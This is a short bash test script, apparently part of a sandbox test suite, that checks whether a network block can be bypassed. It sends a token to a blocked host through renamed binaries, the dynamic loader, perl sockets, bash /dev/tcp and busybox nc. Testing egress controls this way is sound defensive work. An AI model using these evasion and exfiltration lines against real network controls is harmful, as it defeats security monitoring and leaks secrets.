#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Other programs for the same connection.
# program.sh copy | loader | shebang | perl | bash | busybox
cd "$(dirname "$0")" || exit 2
# shellcheck source=vmtests/bypass/attempts/common.sh
. ./common.sh
spare=$(mktemp -d) || broken mktemp
trap 'rm -rf "$spare"' EXIT

# heard STATUS TEXT: what the host answers has the token in it
heard() {
	echo "status $1: ${2:0:300}"
	grep -qF "$token" <<<"$2" && through "an answer"
	denied "$2" && refused "$2"
	broken "no answer"
}

# shellcheck disable=SC2016 # the dollars are perl's
perl_program='use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => "10.77.2.10:7000",
Timeout => 3) or die "$!\n"; print $s "$ENV{BYPASS_TOKEN}\n"; $s->flush; print scalar <$s>;'
case $1 in
copy)
	cp $programs/tcp "$spare/git"
	"$spare/git" connect $blocked 7000
	exit
	;;
loader)
	/lib64/ld-linux-x86-64.so.2 $programs/tcp connect $blocked 7000
	exit
	;;
shebang)
	printf '#!/usr/bin/perl\n%s\n' "$perl_program" >"$spare/make"
	chmod 0755 "$spare/make"
	text=$("$spare/make" 2>&1)
	heard $? "$text"
	;;
perl)
	text=$(perl -e "$perl_program" 2>&1)
	heard $? "$text"
	;;
bash)
	text=$( (exec 3<>/dev/tcp/$blocked/7000 && echo "$token" >&3 && head -n 1 <&3) 2>&1)
	heard $? "$text"
	;;
busybox)
	text=$(echo "$token" | busybox nc -w 3 $blocked 7000 2>&1)
	heard $? "$text"
	;;
esac
broken usage
